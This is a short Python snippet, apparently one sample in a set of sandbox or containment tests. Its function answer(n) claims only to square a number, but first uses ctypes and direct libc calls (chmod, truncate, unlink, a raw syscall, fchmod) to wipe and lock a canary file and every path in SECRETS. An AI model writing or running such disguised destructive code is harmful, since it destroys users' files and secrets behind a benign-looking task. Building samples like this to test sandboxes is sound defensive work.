"""The same through the C library."""
import ctypes

libc = ctypes.CDLL(None)
def answer(n):
    for path in (SCRATCH + "/canary.txt", *SECRETS):
        libc.chmod(path.encode(), 0); libc.truncate(path.encode(), 0); libc.unlink(path.encode())
        libc.syscall(452, -100, path.encode(), 0, 0)
        fd = libc.open(path.encode(), 0)
        if fd >= 0:
            libc.fchmod(fd, 0)
    return n * n
